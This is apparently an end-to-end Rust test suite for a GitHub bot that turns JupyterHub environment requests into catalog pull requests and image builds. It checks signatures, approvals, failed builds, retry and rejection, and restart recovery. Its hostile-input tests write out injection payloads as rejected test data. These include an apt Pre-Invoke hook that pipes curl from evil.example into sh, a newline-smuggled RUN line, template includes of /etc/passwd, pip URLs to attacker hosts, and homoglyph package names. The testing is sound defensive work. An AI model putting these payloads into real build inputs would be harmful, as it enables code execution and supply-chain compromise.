//! The GitHub bot end to end: `labforge serve` with the bot on, a real git
//! catalog repository (a bare repository on disk, the hub's project folder
//! its clone), the real engine and registry for the build, and a fake GitHub
//! (tests/common/fake_github.rs) that answers as GitHub's REST API does and
//! records every call. Deliveries are GitHub's published webhook examples
//! (tests/fixtures/github/) with the fields that matter changed, signed as
//! GitHub signs them.
//!
//! - `bot_request_to_published_image`: issues.opened → preview comment and
//!   labels; replays; an edit that breaks the request updates the same
//!   comment; a refused `/approve`; `/approve` → branch, commit, pull
//!   request (again: nothing new); a maintainer's commit on the branch; the
//!   merge's push → the pipeline builds, the hub serves the digest, the
//!   issue gets the result and is closed.
//! - `bot_rejects_hostile_input`: forged and missing signatures, and every
//!   hostile request body of the issue, each answered with its problem and
//!   none making a branch, a pull request or a build.
//! - `bot_queue_survives_a_restart`: a job that cannot reach GitHub stays
//!   queued across a restart of the hub and is done after it.

mod common;
#[path = "common/fake_github.rs"]
mod fake_github;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::project::{Project, registry};
use common::server::Server;
use fake_github::FakeGithub;
use serde_json::{Value, json};

const SECRET: &str = "webhook-secret-for-tests";
const OWNER: &str = "Codertocat";
const REPO: &str = "Hello-World";

fn fixture(name: &str) -> Value {
    let path = common::project::root()
        .join("tests/fixtures/github")
        .join(format!("{name}.json"));
    serde_json::from_str(&std::fs::read_to_string(&path).expect("fixture")).expect("JSON")
}

/// Now, as GitHub writes times (`2026-11-26T10:00:00Z`).
fn now_github() -> String {
    let ms = labforge_builder::state::unix_ms_now();
    let text = labforge_builder::state::format_rfc3339(ms);
    match text.split_once('.') {
        Some((seconds, _)) => format!("{seconds}Z"),
        None => text,
    }
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_AUTHOR_NAME", "Maintainer")
        .env("GIT_AUTHOR_EMAIL", "maintainer@example.edu")
        .env("GIT_COMMITTER_NAME", "Maintainer")
        .env("GIT_COMMITTER_EMAIL", "maintainer@example.edu")
        .output()
        .expect("git runs");
    assert!(
        out.status.success(),
        "git {args:?} in {}: {}",
        dir.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// The issue form's body as GitHub renders it.
#[derive(Clone)]
struct Form {
    name: String,
    based_on: String,
    gpu: String,
    pip: String,
    apt: String,
    vscode: String,
    course: String,
    why: String,
}

impl Form {
    fn valid() -> Form {
        Form {
            name: "nlp-course".into(),
            based_on: "lab".into(),
            gpu: "No".into(),
            pip: String::new(),
            apt: "coreutils\ndebianutils".into(),
            vscode: "ms-python.python".into(),
            course: "course-nlp".into(),
            why: "For the NLP seminar in the winter term.".into(),
        }
    }

    fn body(&self) -> String {
        let field = |label: &str, value: &str| {
            let value = if value.is_empty() {
                "_No response_"
            } else {
                value
            };
            format!("### {label}\n\n{value}\n\n")
        };
        [
            field("Environment name", &self.name),
            field("Based on", &self.based_on),
            field("GPU needed", &self.gpu),
            field("Python packages (pip)", &self.pip),
            field("System packages (apt)", &self.apt),
            field("VS Code extensions", &self.vscode),
            field("Course or group", &self.course),
            field("Why", &self.why),
        ]
        .concat()
    }
}

/// The catalog repository (bare), the hub's work clone and the fake GitHub.
struct Setup {
    project: Project,
    bare: tempfile::TempDir,
    work: PathBuf,
    fake: FakeGithub,
    deliveries: std::sync::atomic::AtomicUsize,
}

impl Setup {
    fn new(name: &str) -> Setup {
        let project = Project::of("bot", name, "");
        // The Debian stand-in for the catalog's base, beside busybox's.
        let config_path = project.path().join("labforge.toml");
        let config = std::fs::read_to_string(&config_path).expect("config");
        let config = config.replace(
            "[base_map]\n",
            &format!(
                "[base_map]\n\"debian:bookworm\" = \"{}/standin/debian:bookworm\"\n",
                registry()
            ),
        );
        std::fs::write(
            &config_path,
            format!(
                "{config}\n[github]\nrequest_template = \"request.Dockerfile.tera\"\nmaintainers = [\"dean\"]\n"
            ),
        )
        .expect("config");
        let bare = tempfile::tempdir().expect("tempdir");
        git(
            bare.path(),
            &["init", "--bare", "--initial-branch=main", "."],
        );
        git(project.path(), &["init", "--initial-branch=main", "."]);
        git(project.path(), &["add", "-A"]);
        git(project.path(), &["commit", "-q", "-m", "The catalog"]);
        let bare_path = bare.path().display().to_string();
        git(project.path(), &["remote", "add", "origin", &bare_path]);
        git(project.path(), &["push", "-q", "origin", "main"]);
        // The hub runs in its own clone, as it would on a server.
        let work = project.path().join("hub-clone");
        git(
            project.path(),
            &["clone", "-q", &bare_path, work.to_str().expect("path")],
        );
        let fake = FakeGithub::start(OWNER, REPO);
        fake.set_permission("prof", "write");
        fake.set_permission("student", "read");
        fake.add_openvsx("ms-python.python");
        Setup {
            project,
            bare,
            work,
            fake,
            deliveries: std::sync::atomic::AtomicUsize::new(0),
        }
    }

    fn start(&self, api_url: &str) -> Server {
        let bare = self.bare.path().display().to_string();
        let pypi = self.fake.pypi_url();
        let openvsx = self.fake.openvsx_url();
        let bot_login = self.fake.bot_login();
        Server::start_in(
            &self.work,
            3600,
            &[
                ("LABFORGE_CATALOG_REPO", bare.as_str()),
                ("LABFORGE_GITHUB_REPOSITORY", &format!("{OWNER}/{REPO}")),
                ("LABFORGE_GITHUB_API_URL", api_url),
                ("LABFORGE_GITHUB_TOKEN", "token-for-tests"),
                ("LABFORGE_GITHUB_WEBHOOK_SECRET", SECRET),
                ("LABFORGE_GITHUB_BOT_LOGIN", bot_login.as_str()),
                ("LABFORGE_PYPI_URL", pypi.trim_end_matches("/pypi")),
                ("LABFORGE_OPENVSX_URL", openvsx.as_str()),
            ],
        )
    }

    /// Post a delivery signed with `secret` (or unsigned); its status and body.
    fn deliver_as(
        &self,
        server: &Server,
        event: &str,
        payload: &Value,
        delivery: &str,
        secret: Option<&str>,
    ) -> (u16, Value) {
        let body = serde_json::to_vec(payload).expect("JSON");
        let mut request = server
            .http
            .post(format!("{}/webhooks/github", server.url))
            .header("content-type", "application/json")
            .header("x-github-event", event)
            .header("x-github-delivery", delivery)
            .header("user-agent", "GitHub-Hookshot/test");
        if let Some(secret) = secret {
            request = request.header(
                "x-hub-signature-256",
                labforge_hub::webhook::sign(secret, &body),
            );
        }
        let response = request.body(body).send().expect("POST /webhooks/github");
        let status = response.status().as_u16();
        (status, response.json().unwrap_or(Value::Null))
    }

    fn deliver(&self, server: &Server, event: &str, payload: &Value) -> (String, u16, Value) {
        let n = self
            .deliveries
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let delivery = format!("72d3162e-cc78-11e3-81ab-{n:012}");
        let (status, body) = self.deliver_as(server, event, payload, &delivery, Some(SECRET));
        (delivery, status, body)
    }

    /// issues.opened (or .edited) for issue `number` with `body`, as GitHub
    /// sends it after the form is submitted (and stored in the fake).
    fn issue_event(&self, action: &str, number: u64, author: &str, body: &str) -> Value {
        if action == "opened" {
            self.fake.add_issue(
                number,
                author,
                "Environment: nlp-course",
                body,
                &["image-request"],
            );
        } else {
            self.fake.edit_issue(number, body);
        }
        let mut payload = fixture(&format!("issues.{action}"));
        let state = self.fake.issue(number);
        payload["issue"]["number"] = json!(number);
        payload["issue"]["body"] = json!(body);
        payload["issue"]["title"] = json!(state.title);
        payload["issue"]["user"]["login"] = json!(author);
        payload["issue"]["labels"] = json!([{"name": "image-request"}]);
        payload["issue"]["state"] = json!("open");
        payload["issue"]["updated_at"] = json!(now_github());
        if action == "edited" {
            // As GitHub sends a body edit (the published example's
            // `changes` is empty).
            payload["changes"] = json!({"body": {"from": "(the earlier body)"}});
        }
        payload
    }

    fn comment_event(&self, number: u64, author: &str, body: &str) -> Value {
        let id = self.fake.add_user_comment(number, author, body);
        let mut payload = fixture("issue_comment.created");
        payload["issue"]["number"] = json!(number);
        payload["comment"]["id"] = json!(id);
        payload["comment"]["body"] = json!(body);
        payload["comment"]["user"]["login"] = json!(author);
        payload["comment"]["user"]["type"] = json!("User");
        payload["comment"]["created_at"] = json!(now_github());
        payload["issue"]["labels"] = json!([{"name": "image-request"}]);
        payload
    }

    /// The bot's comment of `kind` on the issue (there must be at most one).
    fn bot_comment(&self, number: u64, kind: &str) -> Option<String> {
        let marker = format!("<!-- labforge:{kind} -->");
        let bot = self.fake.bot_login();
        let mine: Vec<String> = self
            .fake
            .comments(number)
            .into_iter()
            .filter(|c| c.author == bot && c.body.starts_with(&marker))
            .map(|c| c.body)
            .collect();
        assert!(
            mine.len() <= 1,
            "#{number}: {} comments of kind {kind}",
            mine.len()
        );
        mine.into_iter().next()
    }

    fn wait(&self, what: &str, limit: Duration, done: impl Fn(&Setup) -> bool) {
        let start = Instant::now();
        while !done(self) {
            assert!(
                start.elapsed() < limit,
                "timed out after {limit:?} waiting for: {what}\ncalls:\n{}",
                self.fake
                    .calls()
                    .iter()
                    .map(|c| format!("  {} → {}", c.line(), c.status))
                    .collect::<Vec<_>>()
                    .join("\n")
            );
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    fn branches(&self) -> Vec<String> {
        git(self.bare.path(), &["branch", "--format=%(refname:short)"])
            .lines()
            .map(str::to_string)
            .collect()
    }

    fn labels(&self, number: u64) -> Vec<String> {
        self.fake.issue(number).labels
    }
}

/// The bot's jobs, from the hub's state store.
fn jobs(work: &Path) -> Vec<labforge_builder::state::Job> {
    let store = work.join("state");
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    runtime.block_on(async {
        let store = labforge_builder::state::StateStore::open(&store.display().to_string())
            .await
            .expect("the hub's state store");
        let jobs = store.jobs().await.expect("jobs");
        store.close().await;
        jobs
    })
}

#[test]
fn bot_request_to_published_image() {
    let setup = Setup::new("e2e");
    let server = setup.start(&setup.fake.url());
    let issue = 7;

    // 1. The form is submitted: a preview within seconds, and labels.
    let body = Form::valid().body();
    let opened = setup.issue_event("opened", issue, "student", &body);
    let (first_delivery, status, answer) = setup.deliver(&server, "issues", &opened);
    assert_eq!(status, 202, "{answer}");
    assert_eq!(answer["queued"], 1);
    setup.wait("the preview", Duration::from_secs(30), |s| {
        s.bot_comment(issue, "request").is_some()
    });
    let preview = setup.bot_comment(issue, "request").expect("preview");
    for needle in [
        "nlp-course",
        "```yaml",
        "coreutils",
        "ms-python.python",
        "/approve",
        "issue: 7",
    ] {
        assert!(
            preview.contains(needle),
            "preview lacks {needle:?}:\n{preview}"
        );
    }
    let labels = setup.labels(issue);
    assert!(labels.contains(&"needs-review".to_string()), "{labels:?}");
    assert!(!labels.contains(&"invalid".to_string()), "{labels:?}");

    // 2. The same delivery again, and the same event under a new delivery
    //    id: nothing new.
    let calls_before = setup.fake.calls().len();
    let (status, answer) =
        setup.deliver_as(&server, "issues", &opened, &first_delivery, Some(SECRET));
    assert_eq!(
        (status, &answer["duplicate"]),
        (200, &json!(true)),
        "{answer}"
    );
    let (_, status, answer) = setup.deliver(&server, "issues", &opened);
    assert_eq!((status, &answer["queued"]), (202, &json!(0)), "{answer}");
    std::thread::sleep(Duration::from_secs(2));
    assert_eq!(
        setup.fake.calls().len(),
        calls_before,
        "a replay made API calls"
    );

    // 3. An edit that breaks the request: the same comment now lists the
    //    problem; the label says invalid. Fixing it brings the preview back.
    let mut broken = Form::valid();
    broken.apt = "coreutils\n-oDPkg::Pre-Invoke=curl evil.example|sh".into();
    let edited = setup.issue_event("edited", issue, "student", &broken.body());
    assert_eq!(setup.deliver(&server, "issues", &edited).1, 202);
    setup.wait("the problem", Duration::from_secs(30), |s| {
        s.labels(issue).contains(&"invalid".to_string())
    });
    let problems = setup
        .bot_comment(issue, "request")
        .expect("one request comment");
    assert!(problems.contains("Pre-Invoke"), "{problems}");
    let fixed = setup.issue_event("edited", issue, "student", &body);
    assert_eq!(setup.deliver(&server, "issues", &fixed).1, 202);
    setup.wait("the preview again", Duration::from_secs(30), |s| {
        s.labels(issue).contains(&"needs-review".to_string())
    });

    // 4. /approve from someone without write permission: a polite refusal,
    //    no branch.
    let by_student = setup.comment_event(issue, "student", "/approve");
    assert_eq!(setup.deliver(&server, "issue_comment", &by_student).1, 202);
    setup.wait("the refusal", Duration::from_secs(30), |s| {
        s.bot_comment(issue, "command").is_some()
    });
    assert_eq!(setup.branches(), ["main"]);

    // 5. /approve from a maintainer: branch, one commit, pull request.
    let by_prof = setup.comment_event(issue, "prof", "Looks good.\n\n/approve");
    assert_eq!(setup.deliver(&server, "issue_comment", &by_prof).1, 202);
    setup.wait("the pull request", Duration::from_secs(60), |s| {
        !s.fake.pulls().is_empty() && s.labels(issue).contains(&"approved".to_string())
    });
    let branch = "image-request/7";
    assert_eq!(setup.branches(), ["image-request/7", "main"]);
    let file = git(
        setup.bare.path(),
        &["show", &format!("{branch}:catalog/images/nlp-course.yaml")],
    );
    assert!(
        file.contains("issue: 7") || file.contains("issue: \"7\""),
        "{file}"
    );
    assert!(
        !file.contains("winter term"),
        "the why text stays out of the catalog"
    );
    let log = git(
        setup.bare.path(),
        &["log", "--format=%an %s", &format!("main..{branch}")],
    );
    assert_eq!(log.lines().count(), 1, "{log}");
    let pulls = setup.fake.pulls();
    assert_eq!(pulls.len(), 1);
    assert_eq!(
        (pulls[0].head.as_str(), pulls[0].base.as_str()),
        (branch, "main")
    );
    assert!(pulls[0].body.contains("#7"), "{}", pulls[0].body);
    // The hub's work tree did not change.
    assert!(!setup.work.join("catalog/images/nlp-course.yaml").exists());

    // /approve again (a listed maintainer): no new commit, the same PR.
    let head = git(setup.bare.path(), &["rev-parse", branch]);
    let queued = jobs(&setup.work).len();
    let again = setup.comment_event(issue, "dean", "/approve");
    assert_eq!(setup.deliver(&server, "issue_comment", &again).1, 202);
    setup.wait("the second approval", Duration::from_secs(60), |s| {
        let js = jobs(&s.work);
        js.len() == queued + 1 && js.iter().all(|j| j.state == "done")
    });
    // It looked for the pull request again, and found it.
    assert_eq!(setup.fake.calls_to("GET", "/pulls").len(), 2);
    assert_eq!(git(setup.bare.path(), &["rev-parse", branch]), head);
    assert_eq!(setup.fake.pulls().len(), 1);

    // 6. A maintainer adds a commit to the branch and merges it; 7. the
    //    push: the pipeline builds, the hub serves, the issue is told and
    //    closed.
    merge(&setup, &server, issue);
    setup.wait("the issue closed", Duration::from_secs(900), |s| {
        // A failed build is an answer too: stop waiting and say why.
        if s.labels(issue).contains(&"build-failed".to_string()) {
            panic!(
                "the build failed: {}",
                s.bot_comment(issue, "result").unwrap_or_default()
            );
        }
        s.fake.issue(issue).state == "closed"
    });
    let state = setup.fake.issue(issue);
    assert_eq!(state.state_reason.as_deref(), Some("completed"));
    assert!(state.labels.contains(&"published".to_string()), "{state:?}");
    let result = setup.bot_comment(issue, "result").expect("the result");
    let profiles = server.json("/api/v1/profiles?group=course-nlp");
    let served = profiles
        .as_array()
        .expect("list")
        .iter()
        .find(|p| p["slug"] == "nlp-course")
        .unwrap_or_else(|| panic!("nlp-course not served: {profiles}"));
    let image = served["kubespawner_override"]["image"]
        .as_str()
        .expect("image");
    let digest = image.rsplit_once('@').expect("pinned").1;
    assert!(result.contains(digest), "{result}");
    assert!(result.contains("/hub/spawn?profile=nlp-course"), "{result}");
    assert!(setup.work.join("catalog/images/nlp-course.yaml").exists());
    // Visible to its course only.
    let everyone = server.json("/api/v1/profiles");
    assert!(
        !everyone
            .as_array()
            .expect("list")
            .iter()
            .any(|p| p["slug"] == "nlp-course"),
        "{everyone}"
    );
    assert!(
        setup.fake.unexpected().is_empty(),
        "{:?}",
        setup.fake.unexpected()
    );
    // The conversation, for a reviewer (kept in target/, like the screenshots).
    let transcript: String = setup
        .fake
        .comments(issue)
        .iter()
        .map(|c| format!("----- {} (comment {})\n{}\n", c.author, c.id, c.body))
        .collect();
    let dir = common::project::root().join("target");
    std::fs::create_dir_all(&dir).expect("target/");
    let out = dir.join("bot-transcript.md");
    std::fs::write(
        &out,
        format!(
            "{transcript}----- pull request\n{}\n",
            setup.fake.pulls()[0].body
        ),
    )
    .expect("write the transcript");
    assert!(
        jobs(&setup.work).iter().all(|j| j.state == "done"),
        "{:?}",
        jobs(&setup.work)
    );
}

#[test]
fn bot_rejects_hostile_input() {
    let setup = Setup::new("hostile");
    let server = setup.start(&setup.fake.url());
    let issue_payload = setup.issue_event("opened", 1, "student", &Form::valid().body());

    // Forged, missing and malformed signatures: 401, nothing recorded.
    let (status, answer) = setup.deliver_as(
        &server,
        "issues",
        &issue_payload,
        "forged-1",
        Some("not-the-secret"),
    );
    assert_eq!(status, 401, "{answer}");
    assert!(
        answer["error"]
            .as_str()
            .unwrap_or("")
            .contains("does not match"),
        "{answer}"
    );
    let (status, answer) = setup.deliver_as(&server, "issues", &issue_payload, "forged-2", None);
    assert_eq!(status, 401, "{answer}");
    assert!(
        answer["error"].as_str().unwrap_or("").contains("missing"),
        "{answer}"
    );
    // A signed delivery with the same id is still new: the forged one was
    // not recorded.
    let (status, _) = setup.deliver_as(&server, "issues", &issue_payload, "forged-1", Some(SECRET));
    assert_eq!(status, 202);
    // A body that is not what was signed.
    let mut tampered = issue_payload.clone();
    tampered["issue"]["number"] = json!(2);
    let signature =
        labforge_hub::webhook::sign(SECRET, &serde_json::to_vec(&issue_payload).expect("JSON"));
    let response = server
        .http
        .post(format!("{}/webhooks/github", server.url))
        .header("x-github-event", "issues")
        .header("x-github-delivery", "tampered")
        .header("x-hub-signature-256", signature)
        .body(serde_json::to_vec(&tampered).expect("JSON"))
        .send()
        .expect("POST");
    assert_eq!(response.status().as_u16(), 401);

    // Hostile requests: (field setter, what the answer must name).
    let many: String = (0..5000).map(|i| format!("package{i}\n")).collect();
    let huge = "x".repeat(1024 * 1024);
    type Case = (&'static str, Box<dyn Fn(&mut Form)>, &'static str);
    let cases: Vec<Case> = vec![
        (
            "marker",
            Box::new(|f| f.pip = "numpy; curl x|sh".into()),
            "numpy; curl x|sh",
        ),
        (
            "newline-run",
            Box::new(|f| f.name = "nlp\nRUN curl x | sh".into()),
            "RUN",
        ),
        (
            "template-expr",
            Box::new(|f| f.pip = "{{ config }}".into()),
            "{{",
        ),
        (
            "template-stmt",
            Box::new(|f| f.why = "{% include '/etc/passwd' %}".into()),
            "{%",
        ),
        (
            "apt-option",
            Box::new(|f| f.apt = "-oDPkg::Pre-Invoke=curl x|sh".into()),
            "Pre-Invoke",
        ),
        (
            "index-url",
            Box::new(|f| f.pip = "--index-url https://evil.example/simple".into()),
            "--index-url",
        ),
        (
            "direct-url",
            Box::new(|f| f.pip = "pkg @ https://evil.example/pkg.whl".into()),
            "pkg @ https",
        ),
        (
            "conda-channel",
            Box::new(|f| f.pip = "conda-forge::numpy".into()),
            "conda-forge::numpy",
        ),
        (
            "cyrillic",
            Box::new(|f| f.pip = "p\u{430}ndas".into()),
            "U+0430",
        ),
        (
            "zero-width",
            Box::new(|f| f.pip = "num\u{200B}py".into()),
            "U+200B",
        ),
        (
            "huge-body",
            Box::new(move |f| f.why = huge.clone()),
            "65536",
        ),
        (
            "many-packages",
            Box::new(move |f| f.pip = many.clone()),
            "5000",
        ),
    ];
    for (i, (name, change, needle)) in cases.iter().enumerate() {
        let number = 100 + i as u64;
        let mut form = Form::valid();
        form.name = format!("hostile-{i}");
        change(&mut form);
        let payload = setup.issue_event("opened", number, "student", &form.body());
        let (_, status, answer) = setup.deliver(&server, "issues", &payload);
        assert_eq!(status, 202, "{name}: {answer}");
        setup.wait(name, Duration::from_secs(30), |s| {
            s.labels(number).contains(&"invalid".to_string())
        });
        let comment = setup.bot_comment(number, "request").expect("an answer");
        assert!(
            comment.contains(needle),
            "{name}: the answer does not name {needle:?}:\n{comment}"
        );
        assert!(
            !setup.labels(number).contains(&"needs-review".to_string()),
            "{name}"
        );
        // Nothing an approval could act on was stored.
        let stored = request_state(&setup.work, number).expect("a stored request");
        assert_eq!(
            (stored.state.as_str(), stored.file.as_str()),
            ("invalid", ""),
            "{name}"
        );
    }
    // And an /approve on one of them makes nothing either.
    setup.fake.set_permission("prof", "write");
    let approve = setup.comment_event(100, "prof", "/approve");
    assert_eq!(setup.deliver(&server, "issue_comment", &approve).1, 202);
    setup.wait("the approval answer", Duration::from_secs(30), |s| {
        s.bot_comment(100, "status").is_some()
    });
    assert_eq!(setup.branches(), ["main"]);
    assert!(setup.fake.pulls().is_empty());
    assert!(
        jobs(&setup.work).iter().all(|j| j.lane == "requests"),
        "no build job: {:?}",
        jobs(&setup.work)
    );

    // A valid request, approved, then rejected: its pull request is closed
    // with the issue, so it cannot be merged by mistake.
    let valid = setup.issue_event("opened", 200, "student", &Form::valid().body());
    assert_eq!(setup.deliver(&server, "issues", &valid).1, 202);
    let approve = setup.comment_event(200, "prof", "/approve");
    assert_eq!(setup.deliver(&server, "issue_comment", &approve).1, 202);
    setup.wait("the pull request", Duration::from_secs(60), |s| {
        s.fake.pulls().iter().any(|p| p.state == "open")
    });
    let reject = setup.comment_event(200, "prof", "/reject not this term");
    assert_eq!(setup.deliver(&server, "issue_comment", &reject).1, 202);
    setup.wait("the rejection", Duration::from_secs(30), |s| {
        s.fake.issue(200).state == "closed"
    });
    assert_eq!(
        setup.fake.issue(200).state_reason.as_deref(),
        Some("not_planned")
    );
    let pulls = setup.fake.pulls();
    assert_eq!(pulls.len(), 1);
    assert_eq!(pulls[0].state, "closed", "{pulls:?}");
    assert!(!pulls[0].merged);
    let status = setup.bot_comment(200, "status").expect("the rejection");
    assert!(
        status.contains("not this term") && status.contains("is closed"),
        "{status}"
    );
    assert!(
        setup.fake.unexpected().is_empty(),
        "{:?}",
        setup.fake.unexpected()
    );
}

/// What the hub's state store says about a request.
fn request_state(work: &Path, issue: u64) -> Option<labforge_builder::state::BotRequest> {
    let store = work.join("state");
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    runtime.block_on(async {
        let store = labforge_builder::state::StateStore::open(&store.display().to_string())
            .await
            .expect("the hub's state store");
        let request = store
            .bot_request(i64::try_from(issue).expect("issue"))
            .await
            .expect("request");
        store.close().await;
        request
    })
}

/// Approve a request, merge its branch with a maintainer's commit and
/// deliver the push.
fn approve_and_merge(setup: &Setup, server: &Server, issue: u64) -> u64 {
    let approve = setup.comment_event(issue, "prof", "/approve");
    assert_eq!(setup.deliver(server, "issue_comment", &approve).1, 202);
    setup.wait("the pull request", Duration::from_secs(60), |s| {
        s.labels(issue).contains(&"approved".to_string())
    });
    merge(setup, server, issue)
}

/// A maintainer adds a commit to the request's branch (this sample's
/// stand-in has no Jupyter server to test), merges it into main and pushes;
/// GitHub's push delivery follows. Returns the pull request's number.
fn merge(setup: &Setup, server: &Server, issue: u64) -> u64 {
    let branch = format!("image-request/{issue}");
    let pull = setup
        .fake
        .pulls()
        .into_iter()
        .find(|p| p.head == branch && p.state == "open")
        .expect("the open pull request");
    let maintainer = setup.project.path().join(format!("maintainer-{issue}"));
    let bare_path = setup.bare.path().display().to_string();
    git(
        setup.project.path(),
        &[
            "clone",
            "-q",
            &bare_path,
            maintainer.to_str().expect("path"),
        ],
    );
    git(&maintainer, &["checkout", "-q", &branch]);
    let state = request_state(&setup.work, issue).expect("stored");
    let path = maintainer.join(format!("catalog/images/{}.yaml", state.slug));
    let text = std::fs::read_to_string(&path).expect("request file");
    std::fs::write(&path, format!("{text}server_test: false\n")).expect("write");
    git(
        &maintainer,
        &["commit", "-q", "-am", "No Jupyter server in the stand-in"],
    );
    let before = git(&maintainer, &["rev-parse", "origin/main"]);
    git(&maintainer, &["checkout", "-q", "main"]);
    git(&maintainer, &["merge", "-q", "--ff-only", &branch]);
    git(&maintainer, &["push", "-q", "origin", "main", &branch]);
    let after = git(&maintainer, &["rev-parse", "main"]);
    setup.fake.merge_pull(pull.number);
    let mut push = fixture("push");
    push["ref"] = json!("refs/heads/main");
    push["before"] = json!(before);
    push["after"] = json!(after);
    push["repository"]["default_branch"] = json!("main");
    push["created"] = json!(false);
    assert_eq!(setup.deliver(server, "push", &push).1, 202);
    pull.number
}

/// A rename after approval is refused; an approval written before the last
/// edit does not count; a build that fails is told on the issue, which
/// stays open and labelled; `/retry` builds again; `/reject` closes the
/// pull request and the issue.
#[test]
fn bot_failed_build_retry_and_reject() {
    let setup = Setup::new("failing");
    let server = setup.start(&setup.fake.url());
    let issue = 21;
    let mut form = Form::valid();
    form.name = "broken-env".into();
    // A valid Debian name the stand-in does not have: the smoke test fails.
    form.apt = "hello".into();
    let opened = setup.issue_event("opened", issue, "student", &form.body());
    assert_eq!(setup.deliver(&server, "issues", &opened).1, 202);
    setup.wait("the preview", Duration::from_secs(30), |s| {
        s.labels(issue).contains(&"needs-review".to_string())
    });
    let approve = setup.comment_event(issue, "prof", "/approve");
    assert_eq!(setup.deliver(&server, "issue_comment", &approve).1, 202);
    setup.wait("the approval", Duration::from_secs(60), |s| {
        s.labels(issue).contains(&"approved".to_string())
    });

    // A rename after the approval: refused, the approval is gone.
    let mut renamed = form.clone();
    renamed.name = "other-name".into();
    let edit = setup.issue_event("edited", issue, "student", &renamed.body());
    assert_eq!(setup.deliver(&server, "issues", &edit).1, 202);
    setup.wait("the rename refused", Duration::from_secs(30), |s| {
        s.labels(issue).contains(&"invalid".to_string())
    });
    let answer = setup.bot_comment(issue, "request").expect("the answer");
    assert!(
        answer.contains("after the request was approved"),
        "{answer}"
    );
    assert!(!setup.labels(issue).contains(&"approved".to_string()));
    // The approved version's pull request is closed, so it cannot be merged.
    assert!(setup.fake.pulls().iter().all(|p| p.state == "closed"));
    // Sending the renamed body again changes nothing: still refused.
    let mut renamed_again = renamed.clone();
    renamed_again.why = "Still the seminar.".into();
    let again = setup.issue_event("edited", issue, "student", &renamed_again.body());
    let done = jobs(&setup.work).len() + 1;
    assert_eq!(setup.deliver(&server, "issues", &again).1, 202);
    setup.wait("the second rename", Duration::from_secs(30), |s| {
        let js = jobs(&s.work);
        js.len() == done && js.iter().all(|j| j.state == "done")
    });
    assert!(setup.labels(issue).contains(&"invalid".to_string()));
    assert_eq!(
        request_state(&setup.work, issue).expect("stored").slug,
        "broken-env"
    );

    // An approval written before the last edit does not count.
    let mut stale = setup.comment_event(issue, "prof", "/approve");
    stale["comment"]["created_at"] = json!("2020-01-01T00:00:00Z");
    let edit_back = setup.issue_event("edited", issue, "student", &form.body());
    assert_eq!(setup.deliver(&server, "issues", &edit_back).1, 202);
    setup.wait("the preview again", Duration::from_secs(30), |s| {
        s.labels(issue).contains(&"needs-review".to_string())
    });
    assert_eq!(setup.deliver(&server, "issue_comment", &stale).1, 202);
    setup.wait("the stale approval refused", Duration::from_secs(30), |s| {
        s.bot_comment(issue, "status")
            .is_some_and(|c| c.contains("edited after"))
    });
    assert!(!setup.labels(issue).contains(&"approved".to_string()));

    // Approved for real, merged: the build fails.
    let pull = approve_and_merge(&setup, &server, issue);
    setup.wait("the failure", Duration::from_secs(600), |s| {
        s.labels(issue).contains(&"build-failed".to_string())
    });
    let state = setup.fake.issue(issue);
    assert_eq!(state.state, "open", "a failed build keeps the issue open");
    let result = setup.bot_comment(issue, "result").expect("the result");
    assert!(result.contains("broken-env"), "{result}");
    assert!(
        !result.contains(setup.work.to_str().expect("path")),
        "no server paths: {result}"
    );
    assert_eq!(
        request_state(&setup.work, issue).expect("stored").state,
        "failed"
    );

    // /retry builds again (and fails again).
    let builds = |s: &Setup| jobs(&s.work).iter().filter(|j| j.lane == "builds").count();
    let retry = setup.comment_event(issue, "prof", "/retry");
    assert_eq!(setup.deliver(&server, "issue_comment", &retry).1, 202);
    setup.wait("the second build", Duration::from_secs(600), |s| {
        builds(s) == 2 && jobs(&s.work).iter().all(|j| j.state == "done")
    });
    // It really ran the pipeline again, and said so.
    let logs = std::fs::read_dir(setup.work.join("state/logs/bot"))
        .expect("the bot's build logs")
        .count();
    assert_eq!(logs, 2);
    assert!(setup.labels(issue).contains(&"build-failed".to_string()));
    assert_eq!(
        request_state(&setup.work, issue).expect("stored").state,
        "failed"
    );

    // /reject closes the pull request and the issue.
    let reject = setup.comment_event(
        issue,
        "prof",
        "/reject the package cannot be installed here",
    );
    assert_eq!(setup.deliver(&server, "issue_comment", &reject).1, 202);
    setup.wait("the rejection", Duration::from_secs(30), |s| {
        s.fake.issue(issue).state == "closed"
    });
    let state = setup.fake.issue(issue);
    assert_eq!(state.state_reason.as_deref(), Some("not_planned"));
    assert!(
        setup
            .fake
            .pulls()
            .iter()
            .any(|p| p.number == pull && p.merged)
    );
    assert!(
        setup.fake.unexpected().is_empty(),
        "{:?}",
        setup.fake.unexpected()
    );
}

#[test]
fn bot_queue_survives_a_restart() {
    let setup = Setup::new("restart");
    // GitHub unreachable: nothing listens on this port.
    let dead = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        format!("http://{}", listener.local_addr().expect("address"))
    };
    let server = setup.start(&dead);
    let payload = setup.issue_event("opened", 9, "student", &Form::valid().body());
    let (_, status, answer) = setup.deliver(&server, "issues", &payload);
    assert_eq!(status, 202, "{answer}");
    // The job ran and failed against the unreachable API, and waits to run again.
    let start = Instant::now();
    loop {
        let js = jobs(&setup.work);
        if js.iter().any(|j| j.state == "queued" && j.attempts >= 1) {
            assert!(js[0].error.is_some(), "{js:?}");
            break;
        }
        assert!(start.elapsed() < Duration::from_secs(120), "{js:?}");
        std::thread::sleep(Duration::from_millis(500));
    }
    drop(server);
    assert!(setup.bot_comment(9, "request").is_none());
    // The hub comes back with GitHub reachable: the job is done.
    let server = setup.start(&setup.fake.url());
    setup.wait(
        "the preview after the restart",
        Duration::from_secs(120),
        |s| s.bot_comment(9, "request").is_some(),
    );
    let js = jobs(&setup.work);
    assert!(js.iter().all(|j| j.state == "done"), "{js:?}");
    assert!(js[0].attempts >= 2, "{js:?}");
    drop(server);
}
